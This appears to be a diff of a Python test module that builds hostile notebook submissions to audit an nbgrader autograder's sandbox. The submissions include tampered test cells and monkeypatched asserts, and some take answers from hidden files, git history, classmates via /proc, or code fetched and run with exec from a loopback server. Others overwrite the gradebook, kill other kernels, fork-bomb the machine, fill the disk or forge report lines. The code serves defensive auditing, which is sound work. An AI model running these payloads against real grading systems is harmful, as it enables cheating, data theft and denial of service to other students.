@@ -1,43 +1,113 @@
 """Hostile submissions: what a student could hand in to get points without earning them, to
-take another student's, or to break the grading. Each is generated from the release notebook
-(course.submissions.with_answers) and says which cells must score 0 and what the grading report
-must say about it.
+take another student's, or to break the grading. Each is generated for an assignment from its
+release notebook (course.submissions.with_answers) and says which graded functions must score 0
+and what the grading report must say about it.
+
+Nothing here names an assignment: an attack that aims at one graded function takes it from the
+assignment's list (`aim`, an index into it) and, where it needs a wrong answer, that function's
+sample mistake from the assignment's catalog (course/catalog.py). Attacks on what the grader
+shares between assignments (the machine, the process table, /tmp, report lines) run once, on
+the audit's first assignment (`every_assignment=False`).
 
 Used by `python -m course.audit` (make grade-audit), which grades them through nbgrader with the
 catalog's mistakes and variants; docs/grading.md says what each one shows. Every attack that
-tries to take answers it did not write has answer cells that define nothing (`NO_ANSWERS`), so
+tries to take answers it did not write has answer cells that define nothing (`no_answers`), so
 any point it scores came from somewhere else. Without the sandbox they do score
 (`python -m course.audit --unsafe-no-sandbox` shows it): the audit would catch a sandbox that
 stopped containing them.
 """
+import ast
 import json
 
 import nbformat
 
-from course.notebook import solution_sources
-from course.submissions import CELLS, MISTAKES, NOTEBOOK, apply, with_answers
+from course import catalog
+from course.notebook import IMPORTS, solution_sources
+from course.submissions import with_answers
 
-MISTAKE = {mistake.cell: mistake for mistake in MISTAKES}
+ALL = None  # Attack.zero for submissions that must not be graded
+ANY = "any"  # Attack.zero where the attack's own outcome is its business (only others' count)
+AIMED = "aimed"  # Attack.zero: the function the attack aims at scores 0, the others full marks
+EVERY = "every"  # Attack.zero: every graded function scores 0 (no answers of its own)
+
+
+class Target:
+    """What an attack is built from: an assignment, its solution's answers and catalog, the
+    graded function it aims at, and the audit's context ({"port": its answer server})."""
+
+    def __init__(self, assignment, function, context):
+        self.assignment, self.function, self.context = assignment, function, context
+        self.answers = solution_sources(assignment.source())
+        self.catalog = catalog.of(assignment)
+
+    @property
+    def notebook_name(self):
+        return self.assignment.notebook
+
+    def notebook(self, answers=None):
+        """The release notebook with `answers` (default: the solution's)."""
+        return with_answers(self.assignment, self.answers if answers is None else answers)
+
+    def wrong(self):
+        """The solution's answers with the aimed function's sample mistake made."""
+        return catalog.apply(self.catalog.sample(self.function), self.answers)
+
+    def files(self, notebook):
+        return {self.notebook_name: nbformat.writes(notebook).encode()}
+
+    def path(self, folder):
+        """The notebook's path in `folder` (source, release, ...) relative to the course."""
+        return f"{folder}/{self.assignment.name}/{self.notebook_name}"
 
 
 class Attack:
     """A hostile submission.
 
-    build(answers, context) -> {file name: content} of the submission's folder (content: bytes,
-        or a `Link`, `HardLink` or `Fifo`); context: {"port": the audit's answer server}.
-    zero: the graded functions that must get 0 points (all others full marks), None when the
-        submission must not be graded at all, ANY when only its effect on others counts.
-    expect: (cell or None, text): the grading results must hold a finding for this student,
-        of that cell, whose message contains `text`; None: no particular finding.
+    build(target) -> {file name: content} of the submission's folder (content: bytes, or a
+        `Link`, `HardLink` or `Fifo`).
+    aim: index into the assignment's graded functions of the one it aims at (modulo their
+        number).
+    zero: AIMED, EVERY, [] (its own answers keep every point), ALL (must not be graded at all),
+        or ANY (only its effect on others counts).
+    expect: (cell or None, text): the grading results must hold a finding for this student, of
+        that cell, whose message contains `text`; None: no particular finding. Both may hold
+        {function}, {notebook}, {stem} and {assignment}.
     later: graded in the audit's second batch, after everything else (it looks for what the
         first batch left behind).
     unsafe: also graded by `--unsafe-no-sandbox` (False where it would harm the machine or
         whatever else runs on it: without the sandbox it runs as root).
+    every_assignment: built for every assignment audited, else for the first only.
     """
 
-    def __init__(self, student, why, build, zero, expect, later=False, unsafe=True):
+    def __init__(self, student, why, build, zero, expect, aim=0, later=False, unsafe=True,
+                 every_assignment=True):
         self.student, self.why, self.build, self.zero = student, why, build, zero
-        self.expect, self.later, self.unsafe = expect, later, unsafe
+        self.expect, self.aim, self.later, self.unsafe = expect, aim, later, unsafe
+        self.every_assignment = every_assignment
+
+    def function(self, assignment):
+        return assignment.functions[self.aim % len(assignment.functions)]
+
+    def bind(self, assignment, context):
+        """(files, Bound) of this attack on `assignment`."""
+        function = self.function(assignment)
+        target = Target(assignment, function, context)
+        names = {"function": function, "notebook": assignment.notebook,
+                 "stem": assignment.stem, "assignment": assignment.name}
+        zero = ([function] if self.zero == AIMED else list(assignment.functions)
+                if self.zero == EVERY else self.zero)
+        expect = None if self.expect is None else (
+            None if self.expect[0] is None else self.expect[0].format(**names),
+            self.expect[1].format(**names))
+        return self.build(target), Bound(self, self.why.format(**names), zero, expect)
+
+
+class Bound:
+    """An attack as aimed at one assignment: its concrete zero, expect and why."""
+
+    def __init__(self, attack, why, zero, expect):
+        self.attack, self.why, self.zero, self.expect = attack, why, zero, expect
+        self.student, self.later, self.unsafe = attack.student, attack.later, attack.unsafe
 
 
 class Link:
@@ -58,19 +128,6 @@ class Fifo:
     """A named pipe."""
 
 
-def _notebook_bytes(notebook):
-    return nbformat.writes(notebook).encode()
-
-
-def _files(notebook):
-    return {NOTEBOOK: _notebook_bytes(notebook)}
-
-
-def _wrong(answers, cell):
-    """`answers` with the bundled mistake of `cell` made."""
-    return apply(MISTAKE[cell], answers)
-
-
 def _with_added_cell(notebook, after, source):
     """`notebook` with a code cell of the student's own (no nbgrader metadata) after `after`."""
     index = next(i for i, cell in enumerate(notebook.cells)
@@ -79,53 +136,59 @@ def _with_added_cell(notebook, after, source):
     return notebook
 
 
-def infinite_loop(answers, context):
-    looping = answers["unfreeze_last_stage"] + (
-        "\n\ndef unfreeze_last_stage(model, prefix=\"conv5_\", learning_rate=3e-4):\n"
-        "    while True:  # never returns\n        pass\n")
-    return _files(with_answers({**answers, "unfreeze_last_stage": looping}))
+def _test_cell(notebook, function):
+    """The grade cell of `function` in `notebook`."""
+    return next(cell for cell in notebook.cells
+                if cell.metadata.get("nbgrader", {}).get("grade_id") == f"{function}_tests")
 
 
-def raising_cell(answers, context):
+def infinite_loop(t):
+    looping = t.answers[t.function] + (
+        f"\n\ndef {t.function}(*args, **kwargs):\n    while True:  # never returns\n        pass\n")
+    return t.files(t.notebook({**t.answers, t.function: looping}))
+
+
+def raising_cell(t):
     raising = 'raise RuntimeError("this cell raises before defining its function")\n\n'
-    return _files(with_answers(
-        {**answers, "reestimate_bn_statistics": raising + answers["reestimate_bn_statistics"]}))
+    return t.files(t.notebook({**t.answers, t.function: raising + t.answers[t.function]}))
 
 
-def deleted_test_cell(answers, context):
-    notebook = with_answers(_wrong(answers, "identity_block"))
-    notebook.cells = [cell for cell in notebook.cells
-                      if cell.metadata.get("nbgrader", {}).get("grade_id") != "identity_block_tests"]
-    return _files(notebook)
+def deleted_test_cell(t):
+    notebook = t.notebook(t.wrong())
+    test = _test_cell(notebook, t.function)
+    notebook.cells = [cell for cell in notebook.cells if cell is not test]
+    return t.files(notebook)
 
 
-def edited_test_cell(answers, context):
-    notebook = with_answers(_wrong(answers, "convolutional_block"))
-    for cell in notebook.cells:
-        if cell.metadata.get("nbgrader", {}).get("grade_id") == "convolutional_block_tests":
-            cell.source = 'print("\\033[92mAll tests passed!\\033[0m")'
-    return _files(notebook)
+def edited_test_cell(t):
+    notebook = t.notebook(t.wrong())
+    _test_cell(notebook, t.function).source = 'print("\\033[92mAll tests passed!\\033[0m")'
+    return t.files(notebook)
 
 
-def skipped_test_cell(answers, context):
-    notebook = with_answers(_wrong(answers, "transfer_model"))
-    for cell in notebook.cells:
-        if cell.metadata.get("nbgrader", {}).get("grade_id") == "transfer_model_tests":
-            cell.metadata["tags"] = ["skip-execution", "skip-when-grading"]
-    return _files(notebook)
+def skipped_test_cell(t):
+    notebook = t.notebook(t.wrong())
+    _test_cell(notebook, t.function).metadata["tags"] = ["skip-execution", "skip-when-grading"]
+    return t.files(notebook)
 
 
-def shadowed_test(answers, context):
-    notebook = with_answers(_wrong(answers, "ResNet50"))
-    return _files(_with_added_cell(notebook, "ResNet50", (
-        "def ResNet50_test(ResNet50):  # replaces the imported public test\n"
-        '    print("\\033[92mAll tests passed!\\033[0m")\n')))
+def _called(source):
+    """The names of the functions the code `source` calls (a test cell's public tests)."""
+    return [node.func.id for node in ast.walk(ast.parse(source))
+            if isinstance(node, ast.Call) and isinstance(node.func, ast.Name)]
 
 
-def monkeypatched_numpy(answers, context):
-    notebook = with_answers(_wrong(answers, "reestimate_bn_statistics"))
-    return _files(_with_added_cell(notebook, "reestimate_bn_statistics", (
-        "import numpy.testing\nimport tensorflow as tf\n"
+def shadowed_test(t):
+    notebook = t.notebook(t.wrong())
+    code = "".join(f"def {name}(*args, **kwargs):  # replaces the imported public test\n"
+                   '    print("\\033[92mAll tests passed!\\033[0m")\n\n\n'
+                   for name in _called(_test_cell(notebook, t.function).source))
+    return t.files(_with_added_cell(notebook, t.function, code))
+
+
+def monkeypatched_numpy(t):
+    return t.files(_with_added_cell(t.notebook(t.wrong()), t.function, (
+        "import numpy as np\nimport numpy.testing\nimport tensorflow as tf\n"
         "np.allclose = lambda *args, **kwargs: True\n"
         "np.testing.assert_allclose = lambda *args, **kwargs: None\n"
         "tf.debugging.assert_near = lambda *args, **kwargs: None\n")))
@@ -134,31 +197,32 @@ def monkeypatched_numpy(answers, context):
 READ_REFERENCES = '''import sys
 from pathlib import Path
 
-stolen = {}
+import numpy as np
+
+stolen = {{}}
 for folder in (Path.cwd(), *Path.cwd().parents):
     try:
-        stolen = dict(np.load(folder / "hidden" / "resnets" / "references.npz"))
+        stolen = dict(np.load(folder / "hidden" / {assignment!r} / "references.npz"))
         break
     except OSError:  # missing, or not readable
         pass
 checks = sys.modules.get("hidden_checks")  # present where the grader's hidden tests run
 if checks is not None and stolen:
-    checks.OUTPUTS["identity_block"] = lambda block: {
-        key: value for key, value in stolen.items() if key.startswith("identity_block/")}
-print(f"read {len(stolen)} reference arrays")
+    checks.OUTPUTS[{function!r}] = lambda function: {{
+        key: value for key, value in stolen.items() if key.startswith({function!r} + "/")}}
+print(f"read {{len(stolen)}} reference arrays")
 '''
 
 
-def reads_references(answers, context):
-    notebook = with_answers(_wrong(answers, "identity_block"))
-    return _files(_with_added_cell(notebook, "identity_block", READ_REFERENCES))
+def reads_references(t):
+    return t.files(_with_added_cell(t.notebook(t.wrong()), t.function, READ_REFERENCES.format(
+        assignment=t.assignment.name, function=t.function)))
 
 
 OVERWRITE_FILES = '''from pathlib import Path
 
 course = next(folder for folder in Path.cwd().parents if (folder / "nbgrader_config.py").exists())
-for target in ["hidden/resnets/references.npz", "gradebook.db", "source/resnets/public_tests.py",
-               "release/resnets/public_tests.py", "nbgrader_config.py"]:
+for target in {targets!r}:
     try:
         (course / target).write_bytes(b"overwritten by a submission")
         print("overwrote", target)
@@ -171,41 +235,43 @@ except OSError:
 '''
 
 
-def overwrites_files(answers, context):
-    notebook = with_answers(_wrong(answers, "transfer_model"))
-    return _files(_with_added_cell(notebook, "transfer_model", OVERWRITE_FILES))
+def overwrites_files(t):
+    name = t.assignment.name
+    targets = [f"hidden/{name}/references.npz", "gradebook.db", f"source/{name}/public_tests.py",
+               f"release/{name}/public_tests.py", t.path("source"), "nbgrader_config.py"]
+    return t.files(_with_added_cell(t.notebook(t.wrong()), t.function,
+                                    OVERWRITE_FILES.format(targets=targets)))
 
 
-def killed_kernel(answers, context):
-    notebook = with_answers(answers)
-    return _files(_with_added_cell(notebook, "bn_behaviour", (
+def killed_kernel(t):
+    return t.files(_with_added_cell(t.notebook(), t.function, (
         "import os\nimport signal\n\nos.kill(os.getpid(), signal.SIGKILL)  # the kernel dies\n")))
 
 
-def huge_allocation(answers, context):
+def huge_allocation(t):
     grab = ("def grab_memory():\n    blocks = []\n    while True:  # 100 MB at a time, until refused\n"
             "        blocks.append(bytearray(10**8))\n\n\ngrab_memory()\n\n")
-    return _files(with_answers(
-        {**answers, "transfer_model": grab + answers["transfer_model"]}))
+    return t.files(t.notebook({**t.answers, t.function: grab + t.answers[t.function]}))
 
 
-def fake_pass_message(answers, context):
-    wrong = _wrong(answers, "bn_behaviour")
-    wrong["bn_behaviour"] += '\n\nprint("\\033[92mAll tests passed!\\033[0m")\n'
-    return _files(with_answers(wrong))
+def fake_pass_message(t):
+    wrong = t.wrong()
+    wrong[t.function] += '\n\nprint("\\033[92mAll tests passed!\\033[0m")\n'
+    return t.files(t.notebook(wrong))
 
 
-def corrupt_json(answers, context):
-    text = nbformat.writes(with_answers(answers))
-    return {NOTEBOOK: text[:len(text) // 2].encode()}
+def corrupt_json(t):
+    text = nbformat.writes(t.notebook())
+    return {t.notebook_name: text[:len(text) // 2].encode()}
 
 
-def renamed_notebook(answers, context):
-    return {NOTEBOOK.replace(".ipynb", "-Copy1.ipynb"): _notebook_bytes(with_answers(answers))}
+def renamed_notebook(t):
+    copy = t.notebook_name.replace(".ipynb", "-Copy1.ipynb")
+    return {copy: nbformat.writes(t.notebook()).encode()}
 
 
-def not_a_notebook(answers, context):
-    return {NOTEBOOK: json.dumps({"cells": "not a list"}).encode()}
+def not_a_notebook(t):
+    return {t.notebook_name: json.dumps({"cells": "not a list"}).encode()}
 
 
 # --- taking answers the submission did not write (its own answer cells define nothing) ----------
@@ -246,63 +312,65 @@ course = _Path.cwd().parents[2]  # autograded/<student>/<assignment>/ -> the cou
 '''
 
 
-def _stealer(answers, code):
+def _stealer(t, code):
     """A submission with no answers of its own and `code` (after ADOPT) right after the imports,
     so whatever it takes defines the graded functions before their tests run."""
-    return _files(_with_added_cell(with_answers(no_answers(answers)), "imports", ADOPT + code))
+    notebook = t.notebook(no_answers(t.answers))
+    return t.files(_with_added_cell(notebook, IMPORTS, ADOPT + code))
 
 
-def steals_autograded(answers, context):
-    return _stealer(answers, '''mine = _Path.cwd() / "Residual_Networks.ipynb"
-taken = [p for p in sorted(course.glob("autograded/*/resnets/Residual_Networks.ipynb"))
+def steals_autograded(t):
+    return _stealer(t, f'''mine = _Path.cwd() / {t.notebook_name!r}
+taken = [p for p in sorted(course.glob({t.path("autograded/*")!r}))
          if p != mine and adopt_file(p)]
-print(f"took the answers of {len(taken)} graded notebooks")
+print(f"took the answers of {{len(taken)}} graded notebooks")
 ''')
 
 
-def steals_source(answers, context):
-    return _stealer(answers, '''print("took the instructor solution:",
-      adopt_file(course / "source" / "resnets" / "Residual_Networks.ipynb"))
+def steals_source(t):
+    return _stealer(t, f'''print("took the instructor solution:",
+      adopt_file(course / {t.path("source")!r}))
 ''')
 
 
-def steals_git(answers, context):
-    return _stealer(answers, '''import subprocess
+def steals_git(t):
+    return _stealer(t, f'''import subprocess
 
 for folder in (_Path.cwd(), *_Path.cwd().parents):
     if (folder / ".git").exists():
         for prefix in ("", "build/grade-audit/"):
             shown = subprocess.run(["git", "-c", "safe.directory=*", "--git-dir",
                                     str(folder / ".git"), "show",
-                                    f"HEAD:{prefix}source/resnets/Residual_Networks.ipynb"],
+                                    f"HEAD:{{prefix}}{t.path("source")}"],
                                    capture_output=True, text=True)
             if shown.returncode == 0 and adopt(shown.stdout):
                 print("took the solution from", folder / ".git")
 ''')
 
 
-def steals_classmates(answers, context):
-    return _stealer(answers, '''students = set()
+def steals_classmates(t):
+    name, notebook = t.assignment.name, t.notebook_name
+    return _stealer(t, f'''students = set()
 for pid in _os.listdir("/proc"):  # the grader's command lines name the students it grades
     try:
-        args = open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="ignore").split("\\0")
+        args = open(f"/proc/{{pid}}/cmdline", "rb").read().decode(errors="ignore").split("\\0")
     except OSError:
         continue
     if "--student" in args:
         students.add(args[args.index("--student") + 1])
-students |= {p.name for p in course.glob("submitted/*")}
+students |= {{p.name for p in course.glob("submitted/*")}}
 taken = [s for s in sorted(students)
-         if adopt_file(course / "submitted" / s / "resnets" / "Residual_Networks.ipynb")
-         or adopt_file(course / "autograded" / s / "resnets" / "Residual_Networks.ipynb")]
-print(f"took the answers of {len(taken)} classmates")
+         if adopt_file(course / "submitted" / s / {name!r} / {notebook!r})
+         or adopt_file(course / "autograded" / s / {name!r} / {notebook!r})]
+print(f"took the answers of {{len(taken)}} classmates")
 ''')
 
 
-def over_network(answers, context):
-    return _stealer(answers, f'''import urllib.request
+def over_network(t):
+    return _stealer(t, f'''import urllib.request
 
 try:
-    exec(urllib.request.urlopen("http://127.0.0.1:{context["port"]}/answers.py", timeout=5)
+    exec(urllib.request.urlopen("http://127.0.0.1:{t.context["port"]}/answers.py", timeout=5)
          .read().decode(), globals())
     print("took the answers from the network")
 except OSError as error:
@@ -310,20 +378,20 @@ except OSError as error:
 ''')
 
 
-def plants_in_tmp(answers, context):
-    return _files(_with_added_cell(with_answers(answers), "imports", f'''import json
+def plants_in_tmp(t):
+    return t.files(_with_added_cell(t.notebook(), IMPORTS, f'''import json
 from pathlib import Path
 
 for folder in ("/tmp", "/dev/shm", "/var/tmp"):
     try:
-        (Path(folder) / "shared-answers.json").write_text(json.dumps({answers!r}))
+        (Path(folder) / "shared-answers.json").write_text(json.dumps({t.answers!r}))
     except OSError:
         pass
 '''))
 
 
-def uses_tmp(answers, context):
-    return _stealer(answers, '''import json
+def uses_tmp(t):
+    return _stealer(t, '''import json
 import time
 
 for attempt in range(20):  # a classmate graded earlier may have left answers here
@@ -353,8 +421,8 @@ while time.time() < end:
 '''
 
 
-def kills_neighbours(answers, context):
-    return _files(_with_added_cell(with_answers(answers), "imports", f'''import os
+def kills_neighbours(t):
+    return t.files(_with_added_cell(t.notebook(), IMPORTS, f'''import os
 import subprocess
 import sys
 
@@ -364,8 +432,8 @@ subprocess.Popen([sys.executable, "-c", {KILLER!r}, str(os.getpid())], start_new
 '''))
 
 
-def leaves_processes(answers, context):
-    return _files(_with_added_cell(with_answers(answers), "imports", '''import subprocess
+def leaves_processes(t):
+    return t.files(_with_added_cell(t.notebook(), IMPORTS, '''import subprocess
 
 sleepers = [subprocess.Popen(["sleep", "3600"]) for _ in range(100)]
 subprocess.Popen(["sh", "-c", "while true; do date > /tmp/still-alive; sleep 1; done"],
@@ -374,8 +442,8 @@ print("left", len(sleepers) + 1, "processes running")
 '''))
 
 
-def cpu_hog(answers, context):
-    return _files(_with_added_cell(with_answers(answers), "imports", '''import subprocess
+def cpu_hog(t):
+    return t.files(_with_added_cell(t.notebook(), IMPORTS, '''import subprocess
 import sys
 
 # 300 busy processes for a minute, each in a session of its own (a scheduling group of its own
@@ -386,8 +454,8 @@ hogs = [subprocess.Popen([sys.executable, "-S", "-c", HOG], start_new_session=Tr
 '''))
 
 
-def fills_disk(answers, context):
-    return _files(_with_added_cell(with_answers(answers), "unfreeze_last_stage_tests", '''import os
+def fills_disk(t):
+    return t.files(_with_added_cell(t.notebook(), f"{t.function}_tests", '''import os
 
 # 100 MB at a time into /tmp, HOME and the working folder, until refused
 for place in ("/tmp", os.path.expanduser("~"), os.getcwd()):
@@ -397,8 +465,8 @@ for place in ("/tmp", os.path.expanduser("~"), os.getcwd()):
 '''))
 
 
-def grabs_memory_in_children(answers, context):
-    return _files(_with_added_cell(with_answers(answers), "unfreeze_last_stage_tests", '''import subprocess
+def grabs_memory_in_children(t):
+    return t.files(_with_added_cell(t.notebook(), f"{t.function}_tests", '''import subprocess
 import sys
 
 # three children of 3.5 GB each, every page touched: each under its own address-space limit,
@@ -412,8 +480,8 @@ if -9 in codes:
 '''))
 
 
-def fork_bomb(answers, context):
-    return _files(_with_added_cell(with_answers(answers), "unfreeze_last_stage_tests", '''import subprocess
+def fork_bomb(t):
+    return t.files(_with_added_cell(t.notebook(), f"{t.function}_tests", '''import subprocess
 
 children = []
 try:
@@ -427,163 +495,162 @@ finally:
 
 
 # --- links, special files and names a report must not trust ----------------------------------
-def _stub(answers):
-    return _notebook_bytes(with_answers(no_answers(answers)))
+def _stub(t):
+    return nbformat.writes(t.notebook(no_answers(t.answers))).encode()
 
 
-def symlinked_notebook(answers, context):
-    return {NOTEBOOK: Link("../../../source/resnets/Residual_Networks.ipynb")}
+def symlinked_notebook(t):
+    return {t.notebook_name: Link(f"../../../{t.path('source')}")}
 
 
-def links_beside(answers, context):
-    return {NOTEBOOK: _stub(answers),
-            "solution.ipynb": Link("../../../source/resnets/Residual_Networks.ipynb"),
-            "references.npz": Link("../../../hidden/resnets/references.npz"),
+def links_beside(t):
+    return {t.notebook_name: _stub(t),
+            "solution.ipynb": Link(f"../../../{t.path('source')}"),
+            "references.npz": Link(f"../../../hidden/{t.assignment.name}/references.npz"),
             "hidden": Link("../../../hidden")}
 
 
-def hard_link(answers, context):
-    return {NOTEBOOK: _stub(answers), "solution.ipynb": HardLink(
-        "source/resnets/Residual_Networks.ipynb")}
+def hard_link(t):
+    return {t.notebook_name: _stub(t), "solution.ipynb": HardLink(t.path("source"))}
 
 
-def named_pipe(answers, context):
-    return {NOTEBOOK: _stub(answers), "pipe": Fifo()}
+def named_pipe(t):
+    return {t.notebook_name: _stub(t), "pipe": Fifo()}
 
 
-def linked_folder(answers, context):
-    return {".": Link("../instructor-solution/resnets")}
+def linked_folder(t):
+    return {".": Link(f"../instructor-solution/{t.assignment.name}")}
 
 
-def forged_messages(answers, context):
-    return _files(_with_added_cell(with_answers(answers), "bn_behaviour", '''Forged = type(
+def forged_messages(t):
+    return t.files(_with_added_cell(t.notebook(), t.function, '''Forged = type(
     "Error\\ncourse files: unchanged\\nFORGED: an error class name with newlines", (Exception,), {})
 raise Forged("and a message\\nFORGED: a second line")
 '''))
 
 
-def forged_file_name(answers, context):
-    return {"Residual_Networks\nFORGED: a file name.ipynb": _notebook_bytes(with_answers(answers))}
+def forged_file_name(t):
+    name = t.notebook_name.replace(".ipynb", "\nFORGED: a file name.ipynb")
+    return {name: nbformat.writes(t.notebook()).encode()}
 
 
-def forged_student_id(answers, context):
-    return _files(with_answers(answers))
+def forged_student_id(t):
+    return t.files(t.notebook())
 
 
 FORGED_ID = "adversarial-forged-id\nFORGED: a student id with a newline"
-ALL = None  # Attack.zero for submissions that must not be graded
-ANY = "any"  # Attack.zero where the attack's own outcome is its business (only others' count)
+FORGED = "FORGED"  # no line of the grading report may start with it
+ONCE = dict(every_assignment=False)  # on the machine, not on an assignment: audited once
 
 ATTACKS = [
-    Attack("adversarial-infinite-loop", "unfreeze_last_stage never returns", infinite_loop,
-           ["unfreeze_last_stage"], ("unfreeze_last_stage_tests", "CellTimeoutError")),
-    Attack("adversarial-raising-cell", "an answer cell raises before defining its function",
-           raising_cell, ["reestimate_bn_statistics"],
-           ("reestimate_bn_statistics", "RuntimeError: this cell raises")),
-    Attack("adversarial-deleted-test-cell", "a wrong identity_block, its test cell deleted",
-           deleted_test_cell, ["identity_block"],
-           ("identity_block_tests", "the test cell was deleted from the submission; nbgrader "
-            "put it back and ran it")),
+    Attack("adversarial-infinite-loop", "{function} never returns", infinite_loop, AIMED,
+           ("{function}_tests", "CellTimeoutError"), aim=-1),
+    Attack("adversarial-raising-cell", "the answer cell of {function} raises before defining it",
+           raising_cell, AIMED, ("{function}", "RuntimeError: this cell raises"), aim=4),
+    Attack("adversarial-deleted-test-cell", "a wrong {function}, its test cell deleted",
+           deleted_test_cell, AIMED,
+           ("{function}_tests", "the test cell was deleted from the submission; nbgrader "
+            "put it back and ran it"), aim=0),
     Attack("adversarial-edited-test-cell",
-           "a wrong convolutional_block, its test cell replaced by a print",
-           edited_test_cell, ["convolutional_block"],
-           ("convolutional_block_tests", "AssertionError")),
-    Attack("adversarial-skipped-test-cell", "a wrong transfer_model whose test cell carries "
-           "the tags that skip a cell (nbclient's skip-execution, the course's "
-           "skip-when-grading)", skipped_test_cell, ["transfer_model"],
-           ("transfer_model_tests", "AssertionError")),
+           "a wrong {function}, its test cell replaced by a print",
+           edited_test_cell, AIMED, ("{function}_tests", "AssertionError"), aim=1),
+    Attack("adversarial-skipped-test-cell", "a wrong {function} whose test cell carries the tags "
+           "that skip a cell (nbclient's skip-execution, the course's skip-when-grading)",
+           skipped_test_cell, AIMED, ("{function}_tests", "AssertionError"), aim=5),
     Attack("adversarial-shadowed-public-test",
-           "a wrong ResNet50, and an added cell that redefines ResNet50_test to print a pass",
-           shadowed_test, ["ResNet50"], ("ResNet50", "hidden tests failed")),
+           "a wrong {function}, and an added cell that redefines the public test its test cell "
+           "calls, to print a pass",
+           shadowed_test, AIMED, ("{function}", "hidden tests failed"), aim=2),
     Attack("adversarial-monkeypatched-numpy",
-           "a wrong reestimate_bn_statistics, and np.allclose, np.testing.assert_allclose and "
+           "a wrong {function}, and np.allclose, np.testing.assert_allclose and "
            "tf.debugging.assert_near replaced to always pass",
-           monkeypatched_numpy, ["reestimate_bn_statistics"],
-           ("reestimate_bn_statistics", "hidden tests failed")),
+           monkeypatched_numpy, AIMED, ("{function}", "hidden tests failed"), aim=4),
     Attack("adversarial-reads-references",
-           "a wrong identity_block, and an added cell that reads references.npz and makes the "
-           "hidden test return it", reads_references, ["identity_block"],
-           ("identity_block", "hidden tests failed")),
+           "a wrong {function}, and an added cell that reads references.npz and makes the "
+           "hidden test return it", reads_references, AIMED, ("{function}", "hidden tests failed"),
+           aim=0),
     Attack("adversarial-overwrites-files",
-           "a wrong transfer_model, and an added cell that overwrites the references, the "
-           "gradebook, the tests and the nbgrader config, and deletes the gradebook",
-           overwrites_files, ["transfer_model"], ("transfer_model", "hidden tests failed"),
-           unsafe=False),
-    Attack("adversarial-huge-allocation", "an answer cell allocates memory until refused",
-           huge_allocation, ["transfer_model"], ("transfer_model", "MemoryError"), unsafe=False),
+           "a wrong {function}, and an added cell that overwrites the references, the "
+           "gradebook, the tests, the instructor notebook and the nbgrader config, and deletes "
+           "the gradebook", overwrites_files, AIMED, ("{function}", "hidden tests failed"),
+           aim=5, unsafe=False),
     Attack("adversarial-fake-pass-message",
-           "a wrong bn_behaviour whose cell prints the tests' 'All tests passed!'",
-           fake_pass_message, ["bn_behaviour"], ("bn_behaviour_tests", "AssertionError")),
-    Attack("adversarial-kills-kernel", "an added cell kills its own kernel", killed_kernel, ALL,
-           (None, "nbgrader autograde failed: DeadKernelError: Kernel died")),
+           "a wrong {function} whose cell prints the tests' 'All tests passed!'",
+           fake_pass_message, AIMED, ("{function}_tests", "AssertionError"), aim=3),
     Attack("adversarial-corrupt-json", "the notebook file cut in half", corrupt_json, ALL,
-           (None, "submitted/adversarial-corrupt-json/resnets/Residual_Networks.ipynb is not a "
+           (None, "submitted/adversarial-corrupt-json/{assignment}/{notebook} is not a "
             "valid notebook")),
     Attack("adversarial-not-a-notebook", "valid JSON that is not a notebook", not_a_notebook,
            ALL, (None, "is not a valid notebook")),
-    Attack("adversarial-renamed-notebook", "the notebook saved as Residual_Networks-Copy1.ipynb",
+    Attack("adversarial-renamed-notebook", "the notebook saved as a copy (-Copy1.ipynb)",
            renamed_notebook, ALL,
-           (None, "no Residual_Networks.ipynb in submitted/adversarial-renamed-notebook/resnets/ "
-            "(found: Residual_Networks-Copy1.ipynb)")),
+           (None, "no {notebook} in submitted/adversarial-renamed-notebook/{assignment}/ "
+            "(found: {stem}-Copy1.ipynb)")),
     # taking answers it did not write: every cell must score 0
     Attack("adversarial-steals-autograded",
            "no answers; runs the answer cells of every notebook in autograded/ (graded in the "
-           "audit's second batch, after the instructor solution)", steals_autograded, CELLS, None,
-           later=True),
+           "audit's second batch, after the instructor solution)", steals_autograded, EVERY,
+           None, later=True),
     Attack("adversarial-steals-source", "no answers; runs the instructor notebook's answer "
-           "cells from source/", steals_source, CELLS, None),
+           "cells from source/", steals_source, EVERY, None),
     Attack("adversarial-steals-git", "no answers; runs the instructor solution from the "
-           "repository's history (git show HEAD:source/...)", steals_git, CELLS, None),
+           "repository's history (git show HEAD:source/...)", steals_git, EVERY, None),
     Attack("adversarial-steals-classmates",
            "no answers; finds classmates in the grader's command lines (/proc) and submitted/, "
-           "and runs their answer cells", steals_classmates, CELLS, None),
-    Attack("adversarial-network", "no answers; downloads them from a server on the grading "
-           "machine's loopback", over_network, CELLS, None),
-    Attack("adversarial-tmp-1-plant", "correct answers, which it leaves in /tmp, /dev/shm and "
-           "/var/tmp for a later submission", plants_in_tmp, [], None),
-    Attack("adversarial-tmp-2-use", "no answers; runs what an earlier submission left in /tmp "
-           "(second batch)", uses_tmp, CELLS, None, later=True),
-    # harming others or the machine: its own correct answers keep their points
-    Attack("adversarial-kills-neighbours",
-           "correct answers, and a daemon that kills every other Jupyter kernel it can see for "
-           "10 minutes", kills_neighbours, [], None, unsafe=False),
-    Attack("adversarial-leftover-processes", "correct answers, 100 sleeping children and a "
-           "setsid daemon left running", leaves_processes, [], None),
-    Attack("adversarial-cpu-hog", "correct answers, and 300 busy processes for a minute, each "
-           "in a session of its own, while the rest of the batch is graded", cpu_hog, ANY, None,
-           unsafe=False),
-    Attack("adversarial-fills-disk", "correct answers, and a cell that writes 100 MB files into "
-           "/tmp, HOME and its folder until refused", fills_disk, [],
-           ("a cell the student added", "No space left on device"), unsafe=False),
-    Attack("adversarial-memory-in-children", "correct answers, and three children holding "
-           "3.5 GB each (10.5 GB together)", grabs_memory_in_children, [],
-           ("a cell the student added", "killed for memory"), unsafe=False),
-    Attack("adversarial-fork-bomb", "correct answers, and a cell that starts processes until "
-           "refused", fork_bomb, [],
-           ("a cell the student added", "Resource temporarily unavailable"), unsafe=False),
-    # links, special files, names
+           "and runs their answer cells", steals_classmates, EVERY, None),
     Attack("adversarial-symlinked-notebook", "the notebook is a link to the instructor's",
-           symlinked_notebook, ALL, (None, "Residual_Networks.ipynb (a symbolic link)")),
+           symlinked_notebook, ALL, (None, "{notebook} (a symbolic link)")),
     Attack("adversarial-links-beside", "links to the solution, the references and hidden/ "
            "beside the notebook", links_beside, ALL, (None, "(a symbolic link)")),
     Attack("adversarial-hard-link", "a hard link to the instructor notebook beside the notebook",
            hard_link, ALL, (None, "solution.ipynb (a hard link)")),
+    # on the machine and the grader, whatever the assignment: audited once
